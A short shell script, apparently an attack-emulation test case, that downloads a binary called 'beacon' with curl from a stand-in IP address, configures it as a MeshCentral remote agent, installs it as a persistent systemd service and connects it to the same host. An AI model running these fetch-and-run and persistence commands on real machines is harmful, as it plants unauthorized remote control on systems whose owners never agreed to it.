#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/local/mesh_services/meshagent && cd /usr/local/mesh_services/meshagent
curl -s -o meshagent http://203.0.113.10/programs/beacon && chmod 755 meshagent
printf 'MeshName=servers\nMeshServer=wss://203.0.113.10:443/agent.ashx\n' >meshagent.msh
mkdir -p /lib/systemd/system && printf '[Service]\nExecStart=/usr/local/mesh_services/meshagent/meshagent\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' >/lib/systemd/system/meshagent.service
timeout 12 ./meshagent connect >/dev/null 2>&1 || true
test -s /lib/systemd/system/meshagent.service
took_place
